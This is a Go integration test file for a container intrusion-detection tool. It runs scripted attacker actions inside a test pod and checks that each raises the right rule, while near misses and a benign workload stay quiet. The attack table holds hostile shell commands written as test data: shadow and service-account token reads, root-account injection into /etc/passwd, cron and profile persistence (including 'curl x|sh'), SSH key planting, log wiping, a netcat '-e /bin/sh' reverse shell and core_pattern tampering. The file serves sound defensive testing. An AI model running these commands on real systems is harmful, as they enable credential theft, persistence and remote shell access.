package test

import (
	"strings"
	"testing"
	"time"

	"github.com/podguard/podguard/daemon/events"
	"github.com/podguard/podguard/test/node"
)

const logAllPHP = `name = "php-watch"
[labels]
app = "php"
[[rule]]
id = "*"
mitigation = "log"
`

// attack is something an intruder does in a pod, the rule it must raise,
// and what the event must say.
type attack struct {
	rule  string
	cmd   string
	check func(t *testing.T, ev events.Event)
}

func detail(key, want string) func(t *testing.T, ev events.Event) {
	return func(t *testing.T, ev events.Event) {
		t.Helper()
		if got, _ := ev.Details[key].(string); got != want {
			t.Errorf("%s: details[%s] = %v, want %q (details %v)", ev.Rule.ID, key, ev.Details[key], want, ev.Details)
		}
	}
}

// TestAttacksInPods runs real attacks inside a real pod and checks that
// each raises its rule with the pod's identity, and that near misses —
// the same pod doing the harmless neighbour of each attack — raise
// nothing.
func TestAttacksInPods(t *testing.T) {
	n, in := guardedNode(t, "", map[string]string{"php.toml": logAllPHP})
	p := n.CreatePod(t, sleeper("shop-php", map[string]string{"app": "php", "tier": "web"}))

	// Near misses first: none of these may raise an event.
	nearMisses := []string{
		"cat /etc/passwd",                       // not /etc/shadow
		"ls /tmp; echo hi > /tmp/notes.txt",     // a data file, not an executable
		"cat /proc/self/environ >/dev/null",     // own environment
		"echo x > /etc/hosts",                   // runtime-managed file
		"nc -w 1 127.0.0.1 80 </dev/null; true", // loopback client, no -e
		"date; id; sleep 0",                     // a shell loop's daily bread
	}
	for _, c := range nearMisses {
		p.Exec(t, "app", "sh", "-c", c)
	}

	attacks := []attack{
		{"shadow-file-read", "cat /etc/shadow", detail("path", "/etc/shadow")},
		{"write-below-etc", "echo 'Welcome' > /etc/motd", detail("path", "/etc/motd")},
		{"new-executable-in-container", "cp /bin/busybox /tmp/bb", detail("path", "/tmp/bb")},
		{"container-drift", "/tmp/bb true", detail("path", "/tmp/bb")},
		{"exec-from-tmp", "/tmp/bb true", detail("path", "/tmp/bb")},
		{"setuid-bit-set", "chmod u+s /tmp/bb", detail("mode", "04755")},
		{"account-manipulation", "echo 'eve:x:0:0::/root:/bin/sh' >> /etc/passwd", detail("path", "/etc/passwd")},
		{"cron-persistence", "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/bb' > /etc/cron.d/x", detail("path", "/etc/cron.d/x")},
		{"clear-logs", "mkdir -p /var/log && echo a > /var/log/app.log && : > /var/log/app.log", detail("path", "/var/log/app.log")},
		{"clear-history", "echo ls > /root/.ash_history; rm /root/.ash_history", detail("path", "/root/.ash_history")},
		{"shell-profile-persistence", "echo 'curl x|sh' >> /root/.profile", detail("path", "/root/.profile")},
		{"ssh-authorized-keys-change", "mkdir -p /root/.ssh && echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", detail("path", "/root/.ssh/authorized_keys")},
		{"service-account-token-read", "mkdir -p /var/run/secrets/kubernetes.io/serviceaccount && echo tok > /var/run/secrets/kubernetes.io/serviceaccount/token && cat /var/run/secrets/kubernetes.io/serviceaccount/token", nil},
		{"proc-environ-read", "cat /proc/1/environ >/dev/null", detail("path", "/proc/1/environ")},
		{"namespace-escape", "unshare -U true; true", nil},
		{"mount-in-container", "mkdir -p /mnt/p; mount -t proc proc /mnt/p; true", detail("fstype", "proc")},
		{"kernel-module-load", "echo notamodule > /tmp/x.ko; insmod /tmp/x.ko; true", nil},
		{"write-below-binary-dir", "echo x > /bin/evil", detail("path", "/bin/evil")},
		{"network-scanner", "nc -z -w 1 127.0.0.1 1-3; true", nil},
		{"netcat-remote-exec", "nc -w 1 -e /bin/sh 127.0.0.1 4444; true", nil},
		{"crypto-miner", "sh -c 'exec -a xmrig sleep 0' ; true", nil},
		{"kernel-hook-tamper", "echo '|/tmp/bb' > /proc/sys/kernel/core_pattern; true", detail("path", "/proc/sys/kernel/core_pattern")},
		{"host-device-access", "cat /dev/mem >/dev/null 2>&1; true", detail("path", "/dev/mem")},
		{"packet-capture", "ping -c1 -W1 127.0.0.1 >/dev/null; traceroute -m 1 -w 1 127.0.0.1 >/dev/null 2>&1; true", nil},
	}
	for _, a := range attacks {
		p.Exec(t, "app", "sh", "-c", a.cmd)
		ev := in.waitEvent(t, p, a.rule)
		if ev.Pod.Name != "shop-php" || ev.Pod.Namespace != "default" || ev.Pod.Labels["app"] != "php" || ev.Container.Name != "app" ||
			ev.Container.Image != n.Image() || ev.Ruleset != "php-watch" || ev.Mitigation.Action != "log" || ev.Mitigation.Result != "applied" ||
			ev.Node != "test-node" || ev.Process.PID == 0 || ev.Time.IsZero() || time.Since(ev.Time) > time.Minute {
			t.Errorf("%s: event identity wrong: %+v", a.rule, ev)
		}
		if a.check != nil {
			a.check(t, ev)
		}
	}
	got := rulesFor(in.events(t), p)
	for _, forbidden := range []string{"terminal-shell-in-container", "shell-spawned-by-server", "proc-mem-access", "private-key-read"} {
		if got[forbidden] > 0 {
			t.Errorf("near miss or harmless step raised %s; events: %s", forbidden, summarize(in.events(t)))
		}
	}
	// The near misses ran first; a shadow read must be the only /etc read flagged.
	for _, ev := range in.events(t) {
		if ev.Rule.ID == "shadow-file-read" && !strings.Contains(ev.Details["path"].(string), "shadow") {
			t.Errorf("shadow-file-read on %v", ev.Details["path"])
		}
		if ev.Rule.ID == "write-below-etc" && ev.Details["path"] == "/etc/hosts" {
			t.Errorf("write to runtime-managed /etc/hosts flagged")
		}
		if ev.Rule.ID == "new-executable-in-container" && ev.Details["path"] == "/tmp/notes.txt" {
			t.Errorf("data file flagged as executable")
		}
	}
}

// TestBenignWorkloadIsQuiet runs a pod that serves HTTP and runs a shell
// loop, with every rule enabled, and expects no event at all.
func TestBenignWorkloadIsQuiet(t *testing.T) {
	t.Parallel()
	n, in := guardedNode(t, "", map[string]string{"all.toml": "name = \"all\"\n[labels]\napp = \"benign-shop\"\n[[rule]]\nid = \"*\"\nmitigation = \"log\"\n"})
	p := n.CreatePod(t, node.PodSpec{Name: "benign", Labels: map[string]string{"app": "benign-shop"}, Containers: []node.ContainerSpec{{
		Name: "app", Command: []string{"sh", "-c", "mkdir -p /www && echo ok > /www/index.html && httpd -p 8080 -h /www && while true; do date >/tmp/last; wget -q -O /dev/null http://127.0.0.1:8080/ ; sleep 1; done"},
	}}})
	client := n.CreatePod(t, node.PodSpec{Name: "client", Labels: map[string]string{"app": "benign-shop"}, Containers: []node.ContainerSpec{{
		Name: "app", Command: []string{"sh", "-c", "while true; do timeout 2 wget -q -O /dev/null http://" + p.IP() + ":8080/; sleep 1; done"},
	}}})
	_ = client
	time.Sleep(benignFor)
	if evs := in.events(t); len(evs) > 0 {
		t.Fatalf("a benign workload raised %d event(s): %s", len(evs), summarize(evs))
	}
	st, _ := in.statusErr()
	if st.Counters["kernel_events"] == 0 {
		t.Fatalf("the probes saw nothing of the benign pods, so the quiet proves nothing: %v", st.Counters)
	}
}

// benignFor is how long the benign workload runs (the issue asks for a
// minute of quiet).
const benignFor = time.Minute
